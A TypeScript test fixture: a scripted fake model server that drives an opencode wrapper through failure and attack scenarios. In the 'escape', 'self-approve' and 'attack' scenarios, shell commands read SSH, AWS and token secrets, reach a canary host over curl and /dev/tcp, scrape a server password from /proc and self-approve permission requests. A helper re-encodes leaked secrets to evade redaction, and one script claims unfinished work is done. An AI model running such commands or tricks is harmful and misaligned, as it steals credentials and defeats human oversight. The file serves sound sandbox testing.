// A scripted OpenAI-compatible model server for the tests, the demo, the soak and the benchmarks.
// It listens on loopback only. Which script it plays is chosen by a `scenario:NAME` token in the
// first user message, so one server can serve every test in a file, in parallel.
import { existsSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

export type ChatMessage = { role: string; content?: unknown; tool_calls?: unknown[]; tool_call_id?: string };
export type ChatRequest = {
  model?: string;
  messages: ChatMessage[];
  stream?: boolean;
  tools?: { function?: { name?: string } }[];
};

/** A request as the server received it; `authorization` is its header (the key opencode sent). */
export type RecordedRequest = { scenario: string; body: ChatRequest; userText: string; authorization: string | null };

type ToolCall = { name: string; args: Record<string, unknown> };
/** What the server does for one request. */
export type Reply =
  | { kind: "text"; text: string; finish?: "stop" | "length"; delayMs?: number; until?: string; usage?: Usage }
  | { kind: "tool"; calls: ToolCall[]; text?: string; usage?: Usage }
  | { kind: "http"; status: number; body: unknown; headers?: Record<string, string> }
  | { kind: "hang" };

type Usage = { prompt_tokens: number; completion_tokens: number };

function messageText(content: unknown): string {
  if (typeof content === "string") return content;
  if (Array.isArray(content)) {
    return content
      .map((p) => (p && typeof p === "object" && "text" in p ? String((p as { text: unknown }).text) : ""))
      .join("");
  }
  return "";
}

function firstUserText(body: ChatRequest): string {
  const user = body.messages.find((m) => m.role === "user");
  return user ? messageText(user.content) : "";
}

function scenarioOf(body: ChatRequest): string {
  const match = /scenario:([a-z0-9-]+)/.exec(firstUserText(body));
  return match ? match[1]! : "plain";
}

/** Tool results the model has seen so far in this turn. */
function toolResults(body: ChatRequest): ChatMessage[] {
  return body.messages.filter((m) => m.role === "tool");
}

/** 529 overloaded, as a provider says it, with opencode's own retries kept short (retry-after: 1). */
const OVERLOADED: Reply = {
  kind: "http",
  status: 529,
  headers: { "retry-after": "1" },
  body: { error: { message: "Overloaded", type: "overloaded_error" } },
};

/**
 * Claims success without doing the work; sent back (a later user message: oc-exec's --verify
 * follow-up), it does it with a command and answers.
 */
function verifyFix(body: ChatRequest): Reply {
  const users = body.messages.flatMap((m, i) => (m.role === "user" ? [i] : []));
  if (users.length < 2) return { kind: "text", text: "Done, all good." };
  const fixed = body.messages.slice(users.at(-1)).some((m) => m.role === "tool");
  return fixed
    ? { kind: "text", text: "Fixed: the check passes now." }
    : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
}

/**
 * The scripts. Each looks at the conversation so far and answers the next request; `seen` is every
 * request the server got, this one last (the scripts that play a provider failing for a while).
 */
export function scriptedReply(body: ChatRequest, seen: readonly RecordedRequest[] = []): Reply {
  const scenario = scenarioOf(body);
  const results = toolResults(body);
  const done = results.length > 0;
  const text = firstUserText(body);
  // How many requests of this turn (its first user message) the server has had, this one included.
  const calls = seen.filter((r) => r.userText === text).length;
  switch (scenario) {
    case "stall-once":
      // The first request never answers (a stream with no byte); any later one does.
      return calls <= 1 ? { kind: "hang" } : { kind: "text", text: "Answered on a later try." };
    case "overloaded-once":
      // Overloaded for longer than opencode's own retries last (the first call and 5 retries), then fine.
      return calls <= 6 ? OVERLOADED : { kind: "text", text: "Answered once the provider recovered." };
    case "retry-after-long":
      // Overloaded, and come back in an hour: opencode sleeps through such a wait on its own.
      return { ...OVERLOADED, headers: { "retry-after": "3600" } } as Reply;
    case "overloaded":
      // The primary model stays overloaded; any other model answers (what --fallback-model is for).
      return body.model === "fake-model" ? OVERLOADED : { kind: "text", text: `Answered by ${body.model}.` };
    case "plain":
      return {
        kind: "text",
        text: "Hello from the scripted model.",
        usage: { prompt_tokens: 120, completion_tokens: 8 },
      };
    case "echo-length":
      // Proves the whole prompt arrived: answers with its length in characters and its last 20 chars.
      return { kind: "text", text: `received ${text.length} chars ending ${JSON.stringify(text.slice(-20))}` };
    case "echo":
      return { kind: "text", text: `you said: ${text}` };
    case "tool":
      return done
        ? { kind: "text", text: "The command printed hi.", usage: { prompt_tokens: 200, completion_tokens: 6 } }
        : {
            kind: "tool",
            calls: [{ name: "bash", args: { command: "echo hi", description: "Print hi" } }],
            usage: { prompt_tokens: 150, completion_tokens: 20 },
          };
    case "write":
      return done
        ? { kind: "text", text: "Wrote notes.txt." }
        : { kind: "tool", calls: [{ name: "write", args: { filePath: "notes.txt", content: "hello\n" } }] };
    case "verify-fix":
      return verifyFix(body);
    case "verify-fix-stall":
      // As verify-fix, but the first request of the repair (the second of the turn) never answers:
      // a transient failure of the repair itself, for --retry to get past.
      return calls === 2 ? { kind: "hang" } : verifyFix(body);
    case "env-probe":
      // The environment the agent's commands get and opencode's key store as they see it, written to
      // a file: what reached them and what did not.
      return done
        ? { kind: "text", text: "Wrote probe-env.txt." }
        : {
            kind: "tool",
            calls: [
              {
                name: "bash",
                args: {
                  // opencode's key store too, the file `opencode auth login` writes.
                  command:
                    'd=$XDG_DATA_HOME; [ -n "$d" ] || d=$HOME/.local/share; { env | sort; cat "$d/opencode/auth.json" 2>/dev/null; } > probe-env.txt',
                  description: "Probe",
                },
              },
            ],
          };
    case "bash-write":
      // The work done by a command, not by a write tool: what a formatter or `eslint --fix` does.
      return done
        ? { kind: "text", text: "Fixed it with a command." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
    case "unavailable-tool":
      // A model that calls a tool the agent does not offer (edit, where the config denies it), gets
      // opencode's `invalid` tool back, then does the work with bash and answers.
      return results.length === 0
        ? {
            kind: "tool",
            calls: [{ name: "edit", args: { filePath: "fixed.txt", oldString: "", newString: "fixed" } }],
          }
        : results.length === 1
          ? { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] }
          : { kind: "text", text: "Fixed it with bash." };
    case "empty":
      // A model that ends its turn without a word.
      return { kind: "text", text: "" };
    case "read-missing":
      // A tool call that fails (the file is not there), after which the model still answers.
      return done
        ? { kind: "text", text: "There is no such file." }
        : { kind: "tool", calls: [{ name: "read", args: { filePath: "missing.txt" } }] };
    case "read-outside":
      return done
        ? { kind: "text", text: "Could not read it." }
        : { kind: "tool", calls: [{ name: "read", args: { filePath: "/etc/hostname" } }] };
    case "sleep-tool":
      return done
        ? { kind: "text", text: "Slept." }
        : {
            kind: "tool",
            calls: [
              { name: "bash", args: { command: "sleep 300", description: "Sleep a long time", timeout: 600000 } },
            ],
          };
    case "escape":
      // A prompt-injected agent: one command that tries every way out of a sandbox, then reports.
      return done
        ? { kind: "text", text: "Tried everything." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: escapeScript(text), description: "Escape" } }] };
    case "attack": {
      // A prompt-injected agent running the command the test gives it, base64 in `script=` (so any
      // shell text survives the prompt), then answering with `answer=` (base64) when given: the
      // attack tests' own payloads, one bash call each.
      const script = /script=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
      const answer = /answer=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
      const decode = (b64: string) => Buffer.from(b64, "base64").toString("utf8");
      return done || !script
        ? { kind: "text", text: answer ? leakBack(decode(answer), results) : "Attack done." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: decode(script), description: "Attack" } }] };
    }
    case "no-such-model":
      // A provider that does not serve the model asked for, and says so quoting its name, as OpenAI's
      // `model_not_found` does: what a tool can make a provider send back.
      return {
        kind: "http",
        status: 404,
        body: {
          error: {
            message: `The model \`${body.model}\` does not exist or you do not have access to it.`,
            type: "invalid_request_error",
            param: null,
            code: "model_not_found",
          },
        },
      };
    case "self-approve":
      // A prompt-injected agent on a server: it looks for the server's password and, with what it
      // found, uses the server's API (`api=HOST:PORT` in the prompt) to approve a permission request.
      return done
        ? { kind: "text", text: "Tried the server's API." }
        : {
            kind: "tool",
            calls: [{ name: "bash", args: { command: selfApproveScript(text), description: "Self-approve" } }],
          };
    case "question":
      // The question tool asks the user; in a headless turn nobody answers, and the model goes on.
      return done
        ? { kind: "text", text: "Nobody answered; I picked the default." }
        : {
            kind: "tool",
            calls: [
              {
                name: "question",
                args: {
                  questions: [
                    {
                      question: "Which color should the button be?",
                      header: "Color",
                      options: [
                        { label: "red", description: "Red" },
                        { label: "blue", description: "Blue" },
                      ],
                    },
                  ],
                },
              },
            ],
          };
    case "loop-tools":
      // An agent that never stops calling tools: what budgets exist for.
      return {
        kind: "tool",
        calls: [{ name: "bash", args: { command: `echo step ${results.length}`, description: "Loop" } }],
        usage: { prompt_tokens: 1000, completion_tokens: 50 },
      };
    case "json":
      return { kind: "text", text: 'Here it is:\n```json\n{"answer": 42, "files": ["a.ts"]}\n```' };
    case "json-bad":
      return { kind: "text", text: '{"answer": "forty-two"}' };
    case "length":
      return { kind: "text", text: "This answer was cut", finish: "length" };
    case "http-401":
      return {
        kind: "http",
        status: 401,
        body: {
          error: {
            message: "Incorrect API key provided: sk-test-abcdefghijklmnopqrstuvwxyz123456",
            type: "invalid_request_error",
            code: "invalid_api_key",
          },
        },
      };
    case "http-429":
      return {
        kind: "http",
        status: 429,
        headers: { "retry-after": "1" },
        body: { error: { message: "Rate limit reached", type: "rate_limit_error" } },
      };
    case "context-overflow":
      return {
        kind: "http",
        status: 400,
        body: {
          error: {
            message:
              "This model's maximum context length is 128000 tokens. However, your messages resulted in 200000 tokens.",
            type: "invalid_request_error",
            code: "context_length_exceeded",
          },
        },
      };
    case "slow-5s":
      return { kind: "text", text: "A slow answer, after five seconds.", delayMs: 5000 };
    case "slow":
      return { kind: "text", text: "Finally.", delayMs: 30_000 };
    case "gated": {
      // Answers only once the file named by `gate:PATH` exists: a test decides when a turn ends,
      // so what it watches in between is not a race against the clock.
      const gate = /gate:(\S+)/.exec(text)?.[1];
      return { kind: "text", text: "The gate opened.", ...(gate ? { until: gate } : {}) };
    }
    case "hang":
      return { kind: "hang" };
    default:
      return { kind: "text", text: `unknown scenario ${scenario}` };
  }
}

/**
 * An attacking model's answer, with what its tool printed after `LEAK:` put back in: `{leak}` as
 * it came, `{leak:reversed}` and `{leak:base64}` transformed, as a model that saw a secret in its
 * context would write it to get it past redaction.
 */
function leakBack(answer: string, results: ChatMessage[]): string {
  const leak = /LEAK:(\S+)/.exec(results.map((m) => messageText(m.content)).join("\n"))?.[1] ?? "";
  return answer
    .replaceAll("{leak}", leak)
    .replaceAll("{leak:reversed}", [...leak].reverse().join(""))
    .replaceAll("{leak:base64}", Buffer.from(leak, "utf8").toString("base64"));
}

/**
 * The `escape` scenario's command: writes outside the workspace and to the workspace's files that
 * run code later (an editor's tasks, git's submodules), reads planted secrets, prints
 * secret variables, and reaches a canary (`canary=HOST:PORT` in the prompt, default 127.0.0.1:9)
 * by curl, by a raw TCP connection and by a DNS name. Each attempt prints whether it worked.
 */
function escapeScript(prompt: string): string {
  const canary = /canary=([\w.-]+):(\d+)/.exec(prompt);
  const [host, port] = canary ? [canary[1]!, canary[2]!] : ["127.0.0.1", "9"];
  // Named after the workspace and its parent, so concurrent runs do not share it.
  const outsideTmp = "/tmp/oc-exec-escape-$(basename $(dirname $PWD))-$(basename $PWD).txt";
  const attempt = (what: string, command: string) =>
    `if ( ${command} ) >/dev/null 2>&1; then echo "${what}: done"; else echo "${what}: refused"; fi`;
  // A write into a sandbox's own HOME (a tmpfs mounted at HOME's path, gone with the sandbox) is
  // made, and thrown away: said so, not "done".
  const inHome = (what: string, dir: string, command: string) =>
    `if ( ${command} ) >/dev/null 2>&1; then case "$(cd ${dir} && pwd)/" in "$HOME"/*) grep -q " $HOME [^-]* - tmpfs " /proc/self/mountinfo && echo "${what}: thrown away" || echo "${what}: done";; *) echo "${what}: done";; esac; else echo "${what}: refused"; fi`;
  return [
    inHome("write ../escape.txt", "..", "echo pwned > ../escape.txt"),
    inHome("write ~/.bashrc", '"$HOME"', 'echo pwned >> "$HOME/.bashrc"'),
    attempt(`write ${outsideTmp}`, `echo pwned > ${outsideTmp}`),
    attempt("write inside.txt", "echo inside > inside.txt"),
    // Inside the workspace, but files that run code later, outside any sandbox (an editor's tasks).
    attempt("write .vscode/tasks.json", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
    attempt("write .gitmodules", "echo pwned > .gitmodules"),
    'echo "ssh key: $(cat ~/.ssh/id_ed25519 2>&1)"',
    'echo "aws: $(cat ~/.aws/credentials 2>&1)"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "tokens: GITHUB_TOKEN=${GITHUB_TOKEN:-unset} NPM_TOKEN=${NPM_TOKEN:-unset}"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "server password is ${OPENCODE_SERVER_PASSWORD:-unset}"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'echo "tmpdir: ${TMPDIR:-unset}"',
    // What runs later, outside: git's internals (a repository copied into .git and named in
    // commondir brings its own fsmonitor), and a file hard-linked to one outside.
    `[ -d .git ] && ${attempt("write .git/commondir", "mkdir -p .git/x && cp -r .git/HEAD .git/refs .git/objects .git/x/ && echo x > .git/commondir")}`,
    `[ -f linked.txt ] && ${attempt("write linked.txt (a hard link to a file outside)", "echo pwned >> linked.txt")}`,
    // Stores a deny list misses: the sandbox's HOME shows none of them.
    'echo "pypirc: $(cat ~/.pypirc 2>&1 | head -c 200)"',
    attempt(`curl ${host}:${port}`, `curl -sf -m 5 http://${host}:${port}/curl`),
    attempt(
      `tcp ${host}:${port}`,
      `exec 3<>/dev/tcp/${host}/${port} && printf 'GET /tcp HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 5 cat <&3`,
    ),
    attempt(`dns canary.localhost:${port}`, `curl -sf -m 5 http://canary.localhost:${port}/dns`),
  ].join("\n");
}

/**
 * The `self-approve` scenario's command. It looks for the server's password in its environment, in
 * every process's environment, and checks whether opencode's memory is open to it; then, with what
 * it found, it lists the server's sessions and makes a session of its own whose bash calls need
 * approval, prompts it, approves the request that comes and waits for the approved command to run.
 */
function selfApproveScript(prompt: string): string {
  const api = `http://${/api=([\w.-]+:\d+)/.exec(prompt)?.[1] ?? "127.0.0.1:4096"}`;
  const json = "-H 'content-type: application/json'";
  return [
    `api=${api}; q="directory=$PWD"`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'pw="${OPENCODE_SERVER_PASSWORD:-}"; from=environment',
    `if [ -z "$pw" ]; then for f in /proc/[0-9]*/environ; do v=$({ tr '\\0' '\\n' < "$f"; } 2>/dev/null | sed -n 's/^OPENCODE_SERVER_PASSWORD=//p' | head -1); if [ -n "$v" ]; then pw=$v; from=$f; break; fi; done; fi`,
    'if [ -n "$pw" ]; then echo "found the password in $from"; else echo "no password found"; fi',
    `mem="not found"; for d in /proc/[0-9]*; do if { tr '\\0' ' ' < "$d/cmdline"; } 2>/dev/null | grep -Eq '^[^ ]*opencode[^ ]* serve '; then if ( exec 3< "$d/mem" ) 2>/dev/null; then mem=readable; else mem=refused; fi; break; fi; done; echo "opencode memory: $mem"`,
    `code() { curl -s --noproxy "*" -o /dev/null -w '%{http_code}' -m 5 -u "opencode:$pw" "$@"; }`,
    'echo "api sessions: HTTP $(code "$api/session?$q")"',
    `sid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" ${json} -d '{"title":"self-approve","permission":[{"permission":"bash","pattern":"*","action":"ask"}]}' "$api/session?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4)`,
    'if [ -z "$sid" ]; then echo "approve: no session of its own"; else',
    `  curl -s --noproxy "*" -o /dev/null -m 5 -u "opencode:$pw" ${json} -d '{"parts":[{"type":"text","text":"scenario:tool"}]}' "$api/session/$sid/prompt_async?$q"`,
    `  rid=""; for i in $(seq 100); do rid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/permission?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4); [ -n "$rid" ] && break; sleep 0.2; done`,
    '  if [ -z "$rid" ]; then echo "approve: nothing asked"; else',
    `    echo "approve: HTTP $(code ${json} -d '{"reply":"once"}' "$api/permission/$rid/reply?$q")"`,
    `    ran=no; for i in $(seq 100); do if curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/session/$sid/message?$q" | grep -q '"status":"completed"'; then ran=yes; break; fi; sleep 0.2; done`,
    '    echo "approved command ran: $ran"',
    "  fi",
    "fi",
  ].join("\n");
}

function chunk(id: string, delta: unknown, finish: string | null, usage?: Usage) {
  const body: Record<string, unknown> = {
    id,
    object: "chat.completion.chunk",
    created: Math.floor(Date.now() / 1000),
    model: "fake-model",
    choices: [{ index: 0, delta, finish_reason: finish }],
  };
  if (usage) body.usage = { ...usage, total_tokens: usage.prompt_tokens + usage.completion_tokens };
  return `data: ${JSON.stringify(body)}\n\n`;
}

async function readBody(req: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of req) parts.push(part as Buffer);
  return Buffer.concat(parts).toString("utf8");
}

export type ModelServer = { url: string; port: number; requests: RecordedRequest[]; close(): Promise<void> };

export async function startModelServer(
  script: (body: ChatRequest, seen: readonly RecordedRequest[]) => Reply = scriptedReply,
): Promise<ModelServer> {
  const requests: RecordedRequest[] = [];
  const hanging = new Set<ServerResponse>();
  let seq = 0;
  const server = createServer(async (req, res) => {
    if (req.method === "GET" && req.url?.endsWith("/models")) {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(
        JSON.stringify({ object: "list", data: [{ id: "fake-model", object: "model", owned_by: "oc-exec-tests" }] }),
      );
      return;
    }
    if (req.method !== "POST" || !req.url?.endsWith("/chat/completions")) {
      res.writeHead(404).end();
      return;
    }
    const body = JSON.parse(await readBody(req)) as ChatRequest;
    requests.push({
      scenario: scenarioOf(body),
      body,
      userText: firstUserText(body),
      authorization: req.headers.authorization ?? null,
    });
    const reply = script(body, requests);
    const id = `chatcmpl-${++seq}`;
    if (reply.kind === "http") {
      res.writeHead(reply.status, { "content-type": "application/json", ...reply.headers });
      res.end(JSON.stringify(reply.body));
      return;
    }
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache", connection: "keep-alive" });
    if (reply.kind === "hang") {
      hanging.add(res);
      res.on("close", () => hanging.delete(res));
      return;
    }
    if (reply.kind === "text") {
      if (reply.delayMs || reply.until) {
        hanging.add(res);
        if (reply.delayMs) await new Promise((r) => setTimeout(r, reply.delayMs));
        while (reply.until && !existsSync(reply.until) && !res.destroyed) await new Promise((r) => setTimeout(r, 50));
        hanging.delete(res);
        if (res.destroyed) return;
      }
      res.write(chunk(id, { role: "assistant", content: "" }, null));
      // Split the text in two deltas, as real providers stream.
      const mid = Math.floor(reply.text.length / 2);
      res.write(chunk(id, { content: reply.text.slice(0, mid) }, null));
      res.write(chunk(id, { content: reply.text.slice(mid) }, null));
      res.write(chunk(id, {}, reply.finish ?? "stop"));
      res.write(
        chunk(id, {}, null, reply.usage ?? { prompt_tokens: 100, completion_tokens: 10 }).replace(
          /"choices":\[[^\]]*\]/,
          '"choices":[]',
        ),
      );
      res.end("data: [DONE]\n\n");
      return;
    }
    res.write(chunk(id, { role: "assistant", content: reply.text ?? null }, null));
    // Call ids depend only on the conversation, so they are the same whatever ran before.
    const turn = body.messages.filter((m) => m.role === "assistant").length + 1;
    reply.calls.forEach((call, index) => {
      res.write(
        chunk(
          id,
          {
            tool_calls: [
              {
                index,
                id: `call_${turn}_${index}`,
                type: "function",
                function: { name: call.name, arguments: JSON.stringify(call.args) },
              },
            ],
          },
          null,
        ),
      );
    });
    res.write(chunk(id, {}, "tool_calls"));
    res.write(
      chunk(id, {}, null, reply.usage ?? { prompt_tokens: 100, completion_tokens: 10 }).replace(
        /"choices":\[[^\]]*\]/,
        '"choices":[]',
      ),
    );
    res.end("data: [DONE]\n\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    port,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        for (const res of hanging) res.destroy();
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
